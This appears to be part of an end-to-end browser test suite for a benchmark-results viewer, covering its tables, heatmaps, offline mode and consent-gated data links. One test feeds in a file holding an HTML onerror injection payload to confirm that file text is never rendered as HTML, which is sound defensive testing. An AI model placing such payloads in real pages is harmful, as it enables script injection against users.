    await page.waitForSelector('canvas.heatmap[data-figure^="types-synthetic"][data-drawn="true"]');
    expectEqual(await page.$$eval('#types-table thead th', (h) => h.length), 2 + 100, 'columns of the types pivot');
    // Its 2,500 cells are built once it is opened (for a few models it is open at first).
    expectEqual(await page.$$eval('#types-table tbody tr', (r) => r.length), 0, 'pivot rows while closed');
    await page.click('details.pivot-numbers summary');
    await page.waitForFunction(() => document.querySelectorAll('#types-table tbody tr td.clickable').length >= 100);
    await page.screenshot({ path: path.join(out, 'hundred-types.png') });
    // A phone holds a hundred models too: tables and heatmaps scroll in their boxes.
    await page.setViewportSize({ width: 390, height: 844 });
    const wide = [];
    try {
      for (const section of ['overview', 'constructs', 'types', 'models']) {
        await show(section);
        wide.push(...await sideways(`hundred ${section}`));
      }
    } finally {
      await page.setViewportSize({ width: 1280, height: 1000 });
    }
    if (wide.length) throw new Error(`at 390 px:\n${wide.join('\n')}`);
    await show('constructs');
    // The click below is placed for the reference definitions' seven short column names (an
    // earlier check ticks them; run alone, this one does).
    if (!(await page.isChecked('#reference-definitions'))) {
      await page.check('#reference-definitions');
      await page.waitForSelector('canvas.heatmap[data-figure^="construct-heatmap-synthetic"][data-drawn="true"]');
    }
    // A cell opens the programs of its model and construct: the third row is the third best model.
    const heatmap = await page.$('canvas.heatmap');
    // Its top rows in view, below the navigation that stays at the top.
    await heatmap.evaluate((canvas) => window.scrollBy(0, canvas.getBoundingClientRect().top - 200));
    const box = await heatmap.boundingBox();
    const scale = box.width / Number(await heatmap.getAttribute('width'));
    const labels = 8 + 13 * 7 + 12; // margin + the longest name's width (heatmap.rs)
    await page.mouse.click(box.x + (labels + 20) * scale, box.y + (28 + 24 + 2 * 18 + 9) * scale);
    await page.waitForFunction((third) => (document.querySelector('#drilldown h2')?.textContent ?? '').includes(third), ranked[2], { timeout: 5000 })
      .catch(async () => { throw new Error(`the third row opened ${await page.textContent('#drilldown h2')}, not ${ranked[2]}`); });
    // The picker: hide ten models, and every view follows.
    await show('overview');
    await page.click('#model-picker summary');
    await page.fill('#model-search', 'synthetic-00');
    await page.click('#models-none');
    await page.waitForFunction(() => document.querySelectorAll('#overview-table tbody tr').length === 90);
    expectEqual((await page.textContent('#model-picker summary')).trim(), 'Models: 90 of 100 shown', 'picker summary');
    await linkWith(['model=synthetic-010']);
    await page.fill('#model-search', '');
    await page.check('#models-by-rate');
    const order = await page.$$eval('.model-list .rate', (r) => r.map((x) => parseFloat(x.textContent)));
    if (order.some((rate, i) => i > 0 && rate > order[i - 1])) throw new Error(`not best first: ${order.slice(0, 5)}`);
    await page.screenshot({ path: path.join(out, 'hundred-picker.png') });
    await page.click('#models-all');
    await page.waitForFunction(() => document.querySelectorAll('#overview-table tbody tr').length === 100);
    await page.click('#model-picker summary');
    // The runs table ranks by any column: pass@1 best first, again worst first; the names from A.
    const runsBy = async (column, expected) => {
      await page.click(`#overview-table th[data-column="${column}"] button`);
      expectEqual(await page.getAttribute(`#overview-table th[data-column="${column}"]`, 'aria-sort'), expected, `${column} sorted`);
      return page.$$eval('#overview-table tbody tr', (rows) => rows.map((row) =>
        [row.dataset.model, Number(row.querySelector('td[data-pass-at-1]').getAttribute('data-pass-at-1'))]));
    };
    const best = await runsBy('pass@1', 'descending');
    if (best.some(([, rate], i) => i > 0 && rate > best[i - 1][1])) throw new Error(`runs not best first: ${best.slice(0, 5)}`);
    await page.locator('#overview-table').scrollIntoViewIfNeeded();
    await page.screenshot({ path: path.join(out, 'hundred-runs-by-success.png') });
    const leader = Number(await page.$eval('table.leaderboard tbody tr td[data-success]', (td) => td.dataset.success));
    if (Math.abs(best[0][1] - leader) > 1e-12) throw new Error(`the best run ${best[0]}, the leaderboard's ${leader}`);
    expectEqual((await runsBy('pass@1', 'ascending')).map((r) => r[1]), best.map((r) => r[1]).reverse(), 'pass@1, worst first');
    const names = (await runsBy('model', 'ascending')).map((r) => r[0]);
    expectEqual(names, [...names].sort(), 'the runs by name');
    // 4,950 pairs of the benchmark shown (all pooled first): only the rows in view are in the page,
    // down to the last; the all-pairs matrix shows all 100 × 99 differences.
    await show('models');
    expectEqual(await page.getAttribute('#comparison-table', 'aria-rowcount'), '4951', 'rows of the comparison');
    await page.waitForSelector('#pair-matrix[data-drawn="true"]');
    await page.screenshot({ path: path.join(out, 'hundred-matrix.png') });
    // Its 9,900 cells are one image scaled up on the canvas: the bottom row's second-to-last cell
    // has a colour, the last (a model against itself) none; the pointer on a cell tells its pair.
    const matrix = await page.$('#pair-matrix');
    await matrix.scrollIntoViewIfNeeded();
    const [width, height] = await matrix.evaluate((c) => [c.width, c.height]);
    const colourAt = (x, y) => matrix.evaluate((c, [x, y]) => [...c.getContext('2d').getImageData(x, y, 1, 1).data], [x, y]);
    const [pairX, selfX, lastY] = [width - 8 - 13 - 6, width - 8 - 6, height - 8 - 6];
    expectEqual(JSON.stringify(await colourAt(selfX, lastY)), '[255,255,255,255]', 'a model against itself');
    if ((await colourAt(pairX, lastY)).slice(0, 3).every((v) => v === 255)) throw new Error('the matrix cell is not drawn');
    // (The cell lies beyond the scrolled box's right edge: the event is sent to the canvas.)
    await matrix.evaluate((c, [x, y]) => {
      const r = c.getBoundingClientRect();
      c.dispatchEvent(new MouseEvent('mousemove', { clientX: r.left + x * r.width / c.width, clientY: r.top + y * r.height / c.height }));
    }, [pairX, lastY]);
    const title = await matrix.getAttribute('title');
    if (!/^synthetic-\d+.* − synthetic-\d+.*: [+-]\d/.test(title ?? '')) throw new Error(`the cell's title: ${title}`);
    // The cell shows its two models side by side.
    await matrix.evaluate((c, [x, y]) => {
      const r = c.getBoundingClientRect();
      c.dispatchEvent(new MouseEvent('click', { clientX: r.left + x * r.width / c.width, clientY: r.top + y * r.height / c.height }));
    }, [pairX, lastY]);
    await page.waitForSelector('#pair-summary');
    const named = `${await page.getAttribute('#pair-summary', 'data-a')} − ${await page.getAttribute('#pair-summary', 'data-b')}:`;
    if (!title.startsWith(named)) throw new Error(`the cell ${title} opened ${named}`);
    await page.screenshot({ path: path.join(out, 'hundred-pair.png') });
    const rendered = await page.$$eval('#comparison-table tbody tr:not(.spacer)', (r) => r.length);
    if (rendered > 200) throw new Error(`${rendered} comparison rows rendered`);
    await page.$eval('#comparison .windowed', (box) => { box.scrollTop = box.scrollHeight; });
    await page.waitForFunction(() => [...document.querySelectorAll('#comparison-table tbody tr:not(.spacer)')].some((row) =>
      row.textContent.startsWith('synthetic-098synthetic-099') && row.dataset.benchmark === '*'));
    await page.screenshot({ path: path.join(out, 'hundred-models.png') });
    fs.rmSync(dir, { recursive: true });
  });

  await check('bad files are named in messages and the rest is analysed', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'exerscope-e2e-bad-'));
    fs.writeFileSync(path.join(dir, 'broken.zip'), Buffer.from('PK\x03\x04 not a zip'));
    fs.writeFileSync(path.join(dir, 'latin1.txt'), Buffer.from([0x63, 0x61, 0x66, 0xe9]));
    fs.writeFileSync(path.join(dir, 'evil.txt'), '<img src=x onerror="window.pwned=1">');
    // A file gone between the pick and the reading (the others are read together, in one Blob).
    fs.writeFileSync(path.join(dir, 'gone.txt'), 'x');
    const names = ['broken.zip', 'latin1.txt', 'evil.txt', 'gone.txt'];
    await dropFiles(names.map((name) => path.join(dir, name)), page, () => fs.rmSync(path.join(dir, 'gone.txt')));
    await waitDone();
    const messages = await page.textContent('#messages');
    for (const name of names) {
      if (!messages.includes(name)) throw new Error(`no message names ${name}: ${messages}`);
    }
    if (!/gone\.txt[^\n]*cannot be read/.test(messages)) throw new Error(`the file gone is not told as unreadable: ${messages}`);
    if (await page.evaluate(() => window.pwned === 1 || document.querySelector('#messages img') !== null)) {
      throw new Error('file text was interpreted as HTML');
    }
    fs.rmSync(dir, { recursive: true });
  });

  await check('"Forget this data" deletes the kept drop: a reload shows an empty page, a link says what to drop', async () => {
    await page.click('#forget-data');
    await page.waitForFunction(() => !document.querySelector('#nav-overview') && !document.querySelector('#kept-notice'));
    await page.reload();
    await page.waitForSelector('#drop-zone');
    await page.waitForTimeout(3000);
    if (await page.$('#nav-overview')) throw new Error('the forgotten drop came back');
    expectEqual(await page.$eval('#status', (s) => s.dataset.state ?? 'idle'), 'idle', 'nothing analysed');
    finishedRuns = 0;
    // A link to a program, opened where its data is not: it says what it points to and what to drop.
    await page.goto(`${origin}${BASE}#section=programs&program.benchmark=cruxeval&program.id=sample_150`);
    await page.reload();
    await page.waitForSelector('#link-notes');
    const said = await page.textContent('#link-notes');
    if (!said.includes('the Programs view on the program sample_150 of cruxeval') || !said.includes('drop the results it was made from (cruxeval)')) {
      throw new Error(`a link without its data says: ${said}`);
    }
    await page.goto(`${origin}${BASE}`);
  });

  await check('a second visit without network opens the app and analyses a drop, Python included', async () => {
    const visitor = await browser.newContext({ viewport: { width: 1280, height: 1000 } });
    const visit = await visitor.newPage();
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'exerscope-e2e-offline-'));
    const row = (id, prediction) => JSON.stringify({ id, model: 'm', benchmark: 'offline', task: 'input',
      code: 'def f(x):\n    return x * 2\n', input: 'f(1)', expected: '2', prediction });
    // Guessed inputs are judged by running them: right only where Python ran.
    fs.writeFileSync(path.join(dir, 'offline.jsonl'), [row('a', 'f(1)'), row('b', 'f(3)')].join('\n'));
    const analysed = async (drop, run) => {
      // The app starts from the kept copy (offline): as slow as a cold start on a busy machine.
      await visit.waitForSelector('#drop-zone', { timeout: 120000 });
      if (drop) await dropFiles([path.join(dir, 'offline.jsonl')], visit);
      await visit.waitForFunction((n) => document.querySelector('#status')?.dataset.run === n, String(run), { timeout: 120000 });
      return visit.$$eval('#overview-table tbody tr td', (cells) => cells.map((td) => td.textContent.trim()));
    };
    try {
      await visit.goto(`${origin}${BASE}`);
      await visit.waitForFunction(() => navigator.serviceWorker?.controller != null, null, { timeout: 30000 });
      // Every file of the build but Pyodide's and the second parsing module's (kept once loaded) is
      // kept at install: a module missed here may still come from the browser's HTTP cache, and fail
      // only on another day.
      const cached = await visit.evaluate(async () => {
        const cache = await caches.open((await caches.keys()).find((key) => key.startsWith('exerscope-')));
        return (await cache.keys()).map((request) => new URL(request.url).pathname);
      });
      const built = fs.readdirSync(path.join(root, 'dist'), { recursive: true })
        .filter((file) => !file.startsWith('pyodide') && !file.startsWith('grammars') && file !== 'sw.js'
          && fs.statSync(path.join(root, 'dist', file)).isFile())
        .map((file) => `${BASE}${file.split(path.sep).join('/')}`);
      const left = built.filter((file) => !cached.includes(file));
      expectEqual(left, [], 'files of the build the offline copy does not keep');
      const online = await analysed(true, 1);
      expectEqual([online[3], online[6]], ['1', '2'], 'online: f(1) is right, f(3) is not');
      await visit.waitForSelector('#kept-notice'); // the worker keeps a drop once it is shown
      await visitor.setOffline(true);
      // The kept drop comes back without the network; a new drop is analysed too.
      await visit.reload();
      const kept = await analysed(false, 1);
      expectEqual([kept[3], kept[6]], ['1', '2'], 'offline, the kept drop: the same verdicts');
      const dropped = await analysed(true, 2);
      expectEqual([dropped[3], dropped[6]], ['1', '2'], 'offline, a new drop: the same verdicts');
      await visit.screenshot({ path: path.join(out, 'offline.png') });
    } finally {
      await visitor.close();
      fs.rmSync(dir, { recursive: true });
    }
  });

  await check('a #data= link: the loader names the host, downloads only after consent, and opens the view', async () => {
    // Public results on another origin (a release asset, a Zenodo record): here a server of the test's own.
    const row = (id, prediction) => JSON.stringify({ id, model: 'linked-model', benchmark: 'linked', task: 'output',
      code: 'def f(x):\n    return x * 2\n', input: 'f(1)', expected: '2', prediction });
    const body = [row('a', '2'), row('b', '3'), row('c', '2')].join('\n');
    const served = [];
    const dataServer = http.createServer((request, response) => {
      served.push(request.url);
      response.writeHead(200, { 'access-control-allow-origin': '*', 'content-type': 'application/jsonl' });
      response.end(body);
    });
    await new Promise((resolve) => dataServer.listen(0, '127.0.0.1', resolve));
    const host = `127.0.0.1:${dataServer.address().port}`;
    const fragment = `data=${encodeURIComponent(`http://${host}/records/1/files/linked.jsonl`)}&section=models`;
    const visitor = await browser.newContext({ viewport: { width: 1280, height: 1000 }, serviceWorkers: 'block' });
    const visit = await visitor.newPage();
    const errors = [];
    visit.on('pageerror', (e) => errors.push(String(e)));
    try {
      await visit.goto(`${origin}${BASE}#${fragment}`);
      await visit.waitForURL(/\/load\.html#/);
      if (!(await visit.textContent('#loader-links')).includes(host)) throw new Error('the loader does not name the host');
      expectEqual(served.length, 0, 'requests before consent');
      await visit.screenshot({ path: path.join(out, 'loader.png') });
      // Refused: the app opens on the view, without the data; nothing was downloaded.
      await visit.click('#loader-cancel');
      await visit.waitForSelector('#drop-zone');
      const refused = new URL(visit.url());
      if (refused.hash.includes('data=') || !refused.pathname.endsWith(BASE)) throw new Error(`after refusing: ${visit.url()}`);
      await visit.waitForTimeout(1000);
      expectEqual([served.length, await visit.$('#nav-overview')], [0, null], 'downloads and data after refusing');
      // Agreed: downloaded once, analysed in the app, on the link's view; the link keeps its data.
      await visit.goto(`${origin}${BASE}#${fragment}`);
      await visit.waitForURL(/\/load\.html#/);
      await visit.click('#loader-confirm');
      await visit.waitForFunction(() => document.querySelector('#status')?.dataset.run === '1', null, { timeout: 120000 });
      await visit.waitForSelector('#nav-models[aria-current="page"]');
      const cells = await visit.$$eval('#overview-table tbody tr td', (c) => c.map((td) => td.textContent.trim()));
      expectEqual([cells[0], cells[3], cells[6]], ['linked-model', '2', '3'], 'the linked results');
      expectEqual(served, ['/records/1/files/linked.jsonl'], 'requests to the data host');
      if (!new URL(visit.url()).hash.includes('data=')) throw new Error(`the view's link lost its data: ${visit.url()}`);
      expectEqual(errors, [], 'page errors');
    } finally {
      await visitor.close();
      dataServer.close();
    }
  });

  await check('no request left the page\'s origin or its sub-path, and the page logged no error', async () => {
    expectEqual(foreign, [], 'requests to other origins');
    expectEqual(missing, [], 'requests not found (outside the sub-path?)');
    expectEqual(pageErrors, [], 'page errors');
  });
} finally {
  await browser.close();
  server.close();
}
console.log(`${passed} passed, ${failed} failed`);
process.exit(failed === 0 ? 0 : 1);
